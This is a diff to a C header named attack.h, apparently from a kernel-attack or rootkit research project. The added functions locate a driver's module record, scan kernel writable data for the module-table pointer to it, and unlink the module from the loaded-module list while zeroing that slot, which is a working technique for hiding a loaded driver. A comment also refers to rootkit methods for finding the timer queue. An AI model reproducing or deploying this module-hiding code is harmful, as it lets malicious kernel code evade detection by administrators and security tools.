@@ -8,6 +8,7 @@
 #define ATTACK_H
 
 #include <kpp/driver.h>
+#include <kpp/module.h>
 
 #define A_PTE_P (1ull << 0)
 #define A_PTE_W (1ull << 1)
@@ -122,6 +123,40 @@ static inline bool a_in_kernel_text(uint64_t va)
 {
 	uint64_t base = a_kernel_base(), end = a_kernel_end(base);
 	return va >= base && va < end && a_page_class(va & ~(A_PAGE - 1)) == A_TEXT;
+}
+
+/* The module record of driver drv (the loader embeds the driver object in it). */
+static inline struct module *a_module_of(struct driver_object *drv)
+{
+	return (struct module *)((uint64_t)drv - __builtin_offsetof(struct module, drv));
+}
+
+/* The slot of the kernel's module lookup table that points at module m,
+ * found by a scan of the kernel's writable data for a pointer to m that is
+ * not a list link (those are m's neighbours'); NULL when there is none. */
+static inline uint64_t *a_module_slot(struct module *m)
+{
+	uint64_t base = a_kernel_base(), end = a_kernel_end(base);
+	for (uint64_t p = base; p < end; p += A_PAGE) {
+		if (a_page_class(p) != A_DATA)
+			continue;
+		for (uint64_t *q = (uint64_t *)p; (uint64_t)q < p + A_PAGE; q++)
+			if (*q == (uint64_t)m && q != (uint64_t *)&m->prev && !(m->prev && q == (uint64_t *)&m->prev->next))
+				return q;
+	}
+	return NULL;
+}
+
+/* Removes module m from the loaded-module list and, when slot is not NULL,
+ * from the module table. Interrupts must be off. */
+static inline void a_hide_module(struct module *m, uint64_t *slot)
+{
+	if (m->prev)
+		m->prev->next = m->next;
+	if (m->next)
+		m->next->prev = m->prev;
+	if (slot)
+		*slot = 0;
 }
 
 /* The head of the kernel's timer queue, found the way a rootkit finds an
